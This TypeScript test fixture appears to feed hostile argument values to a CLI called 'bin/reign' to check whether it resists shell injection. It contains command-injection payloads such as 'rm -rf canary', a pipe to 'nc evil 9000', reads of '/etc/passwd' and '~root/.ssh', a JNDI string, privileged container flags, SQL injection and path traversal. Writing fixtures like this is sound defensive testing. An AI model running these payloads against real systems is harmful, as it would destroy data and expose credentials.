/**
 * Hostile values, by the way they try to break out of an argument. Payloads that would do harm
 * aim at `canary` (a directory) and `canary/file` relative to the working directory, so a run in
 * a sandbox shows whether any of them reached a process.
 */
const BREAKOUTS: Record<string, readonly string[]> = {
  quotes: ['web"', '"web', "web'", "'web", 'we"b', `web'"`, 'web\\"x', "web' || touch canary/file #"],
  backticks: ['`id`', 'web`id`', '`touch canary/file`', '`rm -rf canary`', 'web`'],
  substitution: ['$(id)', 'web$(touch canary/file)', '$(rm -rf canary)', '${IFS}rm', '$HOME', '$((1+1))', '<(cat /etc/passwd)', '${jndi:ldap://x/a}'],
  separators: ['web; rm -rf canary', 'web;id', 'web && rm -rf canary', 'web || true', 'web | nc evil 9000', 'web & id', 'web;', ';web', 'web&&touch canary/file'],
  redirection: ['web>canary/file', 'web >> canary/file', 'web<canary/file', 'web 2>&1', '>canary/file'],
  newlines: ['web\nrm -rf canary', 'web\r\nid', 'web\n', '\nweb', 'web\u2028id', 'web\u0085id', 'web\rtouch canary/file'],
  nul: ['web\0', '\0web', 'web\0rm -rf canary'],
  ansi: ['web\x1b[31m', '\x1b]0;title\x07web', 'web\x1b[2J', '\x9b31mweb', 'web\x1b[1A\x1b[2K'],
  lookalikes: ['wеb', 'nсweb', 'ｗｅｂ', 'ωeb', 'we\u0301b', 'wıb', '日本', 'wéb', '𝐰𝐞𝐛', 'ԝeb'],
  invisible: ['web\u202eexe', '\u200fweb', 'web\u200b', 'web\u2066', '\ufeffweb', 'w\u200deb', 'web\u00ad'],
  climbs: ['../../etc', '../canary', '/etc/passwd', '..', './../..', '%2e%2e%2f', '....//', '~root/.ssh', '/proc/self/environ', '..\\..\\windows'],
  flags: ['-rf', '--privileged', '-v /:/host', '--network=host', '--rm', '-e LD_PRELOAD=/x'],
  globs: ['web*', '{a,b}', 'web?', '[a-z]', '!!', '^web'],
  formats: ["web'; drop table runs; --", '%s%s%n', '{{.Config}}', 'web%0a'],
};

/** The same payload as a user might wrap it. */
const DISGUISES: readonly ((p: string) => string)[] = [(p) => p, (p) => `api${p}`, (p) => `${p}-1`, (p) => `"${p}"`, (p) => `'${p}'`, (p) => `\`${p}\``];

/** Oversized values: each shape gets each of them once. */
const OVERSIZED = ['a'.repeat(1 << 20), 'web;'.repeat(1 << 18), 'x'.repeat(300), 'a'.repeat(129), `web${'-'.repeat(300)}`];

export const HOSTILE_VALUES: readonly string[] = [
  ...new Set([...Object.values(BREAKOUTS).flat().flatMap((p) => DISGUISES.map((d) => d(p))), ...OVERSIZED]),
];

/** Those aimed at the canary: run through `bin/reign` in every mode. */
export const CANARY_VALUES: readonly string[] = [
  'web; rm -rf canary', '`touch canary/file`', '$(rm -rf canary)', 'web && rm -rf canary', '"web; rm -rf canary"',
  'web\nrm -rf canary', "web' || touch canary/file #", 'web>canary/file',
];

/** A short, visible form of a value for test names and messages. */
export function shownValue(value: string): string {
  const json = JSON.stringify(value);
  return json.length > 60 ? `${json.slice(0, 40)}…(${value.length} chars)` : json;
}
